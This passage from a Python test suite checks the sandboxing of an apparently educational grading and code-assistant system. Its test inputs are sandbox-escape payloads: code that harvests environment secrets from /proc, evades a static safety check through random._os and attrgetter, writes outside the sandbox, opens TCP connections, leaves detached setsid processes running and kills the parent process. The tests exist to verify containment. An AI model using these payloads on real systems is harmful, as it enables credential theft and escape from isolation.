        f"one student's KeyboardInterrupt subclass stopped `course grade` (exit {exit_code}, "
        f"rows {sorted(graded.rows)})"
    )
    assert graded.row("a-stopper")["score"] == "0.0000"
    assert graded.row("b-honest")["score"] == "1.0000"


def test_grade_report_cells_are_not_spreadsheet_formulas(graded: _Class) -> None:
    graded.row("honest-partial")
    with (graded.out / "report.csv").open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formulas = [cell[:40] for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert not formulas, f"student-controlled text reached report.csv as spreadsheet formulas: {formulas}"


_SYNTAX_ERROR = "def sum_evens(numbers)\n    return 0\n"
_MALFORMED = {
    "deep-json": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "not-an-object": b"[1, 2, 3]",
    "invalid-utf8": b'\xff\xfe{"cells": []}',
    "cells-not-a-list": b'{"cells": 5, "metadata": {"learnflow": {"exercise_id": "sum-of-evens"}}}',
}


@pytest.mark.parametrize("kind", sorted(_MALFORMED))
def test_grade_malformed_submission_does_not_abort_grading(
    kind: str, tmp_path: Path, canaries: list[str]
) -> None:
    graded = _Class(tmp_path, canaries, {"b-other": _SYNTAX_ERROR}, {"a-malformed": _MALFORMED[kind]})
    exit_code, students = graded.done.returncode, set(graded.rows)
    assert exit_code == 0 and students == {"a-malformed", "b-other"}, (
        f"one student's {kind} notebook stopped `course grade` (exit {exit_code}, "
        f"rows {sorted(graded.rows)}): {graded.done.stderr.strip().splitlines()[-1:]}"
    )
    assert graded.row("a-malformed")["score"] == "0.0000"


def test_grade_leaks_no_canary(graded: _Class) -> None:
    graded.row("honest-partial")
    assert not any(c in graded.everything for c in graded.canaries)


# === 9. the debug agent's fix verification =================================================
# verify_fix only runs code its static check (is_safe_to_run) accepts; these get past it
# through `random._os` and string-named attributes, as a student reading that check would.

_DEBUG_PRELUDE = "import operator\nimport random\nosmod = random._os\n"


def _debug(code: str, **kw) -> AgentRun:
    return run_agent({"mode": "debug", "code": _DEBUG_PRELUDE + code, "error_type": "NameError"}, **kw)


def test_debug_fix_reads_parent_environ(canaries: list[str]) -> None:
    code = (
        "found = []\n"
        "for pid in [str(osmod.getppid())] + osmod.listdir('/proc'):\n"
        "    try:\n"
        "        fd = osmod.open('/proc/' + str(pid) + '/environ', osmod.O_RDONLY)\n"
        "        data = osmod.read(fd, 1 << 20)\n"
        "        osmod.close(fd)\n"
        "    except OSError:\n"
        "        continue\n"
        "    found += [e.decode() for e in data.split(b'\\x00')\n"
        "              if e.startswith(b'LEARNFLOW_CANARY=lfcanary')]\n"
        "raise ValueError('loot: ' + ' '.join(sorted(set(found)))[:400])\n"
    )
    run = _debug(code)
    run.check()
    _no_canary(run, canaries)


def test_debug_fix_writes_outside(token: str, canaries: list[str]) -> None:
    paths = [Path(f"/tmp/escape-debug-{token}"), Path.home() / f".escape-debug-{token}"]
    code = "".join(
        f"try:\n    fd = osmod.open({str(p)!r}, osmod.O_WRONLY | osmod.O_CREAT, 0o644)\n"
        "    osmod.write(fd, b'x')\n    osmod.close(fd)\nexcept OSError:\n    pass\n"
        for p in paths
    )
    try:
        _debug(code).check()
        written = [str(p) for p in paths if p.exists()]
        assert not written, f"the debug fix check let student code write {written}"
    finally:
        _cleanup(*paths)


def test_debug_fix_connects_to_listener(listener: TcpListener, canaries: list[str]) -> None:
    code = (
        "socket = operator.attrgetter('__import__')(osmod.sys.modules['builtins'])('socket')\n"
        f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=1.5).close()\n"
    )
    _debug(code).check()
    time.sleep(0.3)
    assert listener.accepted == 0, "the debug fix check let student code open a TCP connection"


def test_debug_fix_setsid_survivor(token: str, listener: TcpListener, canaries: list[str]) -> None:
    marker = Path(f"/tmp/escape-debug-survivor-{token}")
    comm = f"lfdbg{token}"
    code = (
        "import time\n"
        "socket = operator.attrgetter('__import__')(osmod.sys.modules['builtins'])('socket')\n"
        "if osmod.fork() == 0:\n"
        "    osmod.setsid()\n"
        "    if osmod.fork() == 0:\n"
        "        null = osmod.open('/dev/null', osmod.O_RDWR)\n"
        "        for fd in (0, 1, 2):\n"
        "            osmod.dup2(null, fd)\n"
        "        osmod.closerange(3, 1024)\n"
        "        try:\n"
        "            fd = osmod.open('/proc/self/comm', osmod.O_WRONLY)\n"
        f"            osmod.write(fd, {comm!r}.encode())\n"
        "        except OSError:\n"
        "            pass\n"
        "        for _ in range(12):\n"
        "            time.sleep(1.0)\n"
        "            try:\n"
        f"                fd = osmod.open({str(marker)!r}, osmod.O_WRONLY | osmod.O_CREAT, 0o644)\n"
        "            except OSError:\n"
        "                pass\n"
        "            try:\n"
        f"                socket.create_connection(('127.0.0.1', {listener.port}), timeout=0.5).close()\n"
        "            except OSError:\n"
        "                pass\n"
        "    osmod._exit(0)\n"
    )
    try:
        _debug(code).check()
        returned = time.monotonic()
        time.sleep(1.6)
        assert listener.accepted_after(returned) == 0, "a grandchild reached the listener after the check"
        assert not processes_named(comm), "a setsid grandchild outlived the debug fix check"
        assert not marker.exists(), "a grandchild wrote outside the sandbox"
    finally:
        kill_processes_named(comm)
        _cleanup(marker)


def test_debug_fix_kills_parent(canaries: list[str]) -> None:
    run = _debug("osmod.kill(osmod.getppid(), 9)\nosmod.killpg(osmod.getpgid(osmod.getppid()), 9)\n")
    run.check()


# === 10. code review's run of the student's own tests =====================================


def _review(code: str, **kw) -> AgentRun:
    return run_agent({"mode": "review", "code": code}, **kw)


def test_review_tests_read_parent_environ(canaries: list[str]) -> None:
    code = (
        "import os\n\n"
        "def test_leak():\n"
        "    found = []\n"
        "    for pid in [str(os.getppid())] + os.listdir('/proc'):\n"
        "        try:\n"
        "            data = open('/proc/%s/environ' % pid, 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        found += [e.decode() for e in data.split(b'\\0')\n"
        "                  if e.startswith(b'LEARNFLOW_CANARY=lfcanary')]\n"
        "    assert not found, ' '.join(sorted(set(found)))\n"
    )
    run = _review(code)
    run.check()
    _no_canary(run, canaries)


def test_review_tests_write_outside(token: str, canaries: list[str]) -> None:
    paths = [Path(f"/tmp/escape-review-{token}"), Path.home() / f".escape-review-{token}"]
    code = (
        "".join(f"try:\n    open({str(p)!r}, 'w').write('x')\nexcept OSError:\n    pass\n" for p in paths)
        + "\ndef test_nothing():\n    assert True\n"
    )
    try:
        _review(code).check()
        written = [str(p) for p in paths if p.exists()]
        assert not written, f"code review's test run let student code write {written}"
    finally:
        _cleanup(*paths)


def test_review_tests_connect_to_listener(listener: TcpListener, canaries: list[str]) -> None:
    code = (
        "import socket\n\n"
        "def test_net():\n"
        f"    socket.create_connection(('127.0.0.1', {listener.port}), timeout=1.5).close()\n"
    )
    _review(code).check()
    time.sleep(0.3)
    assert listener.accepted == 0, "code review's test run let student code open a TCP connection"


def test_review_tests_setsid_survivor(token: str, listener: TcpListener, canaries: list[str]) -> None:
    marker = Path(f"/tmp/escape-review-survivor-{token}")
    comm = f"lfrev{token}"
    cfg = {"comm": comm, "marker": str(marker), "port": listener.port}
    code = attacks.program(cfg, attacks.SURVIVOR, "\ndef test_ok():\n    assert True\n")
    try:
        _review(code).check()
        returned = time.monotonic()
        time.sleep(1.6)
        assert listener.accepted_after(returned) == 0, "a grandchild reached the listener after the run"
        assert not processes_named(comm), "a setsid grandchild outlived code review's test run"
        assert not marker.exists(), "a grandchild wrote outside the sandbox"
    finally:
        kill_processes_named(comm)
        _cleanup(marker)


def test_review_tests_kill_parent(canaries: list[str]) -> None:
    code = (
        "import os, signal\n\n"
        "def test_kill():\n"
        "    os.kill(os.getppid(), signal.SIGKILL)\n"
        "    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n"
    )
    _review(code).check()
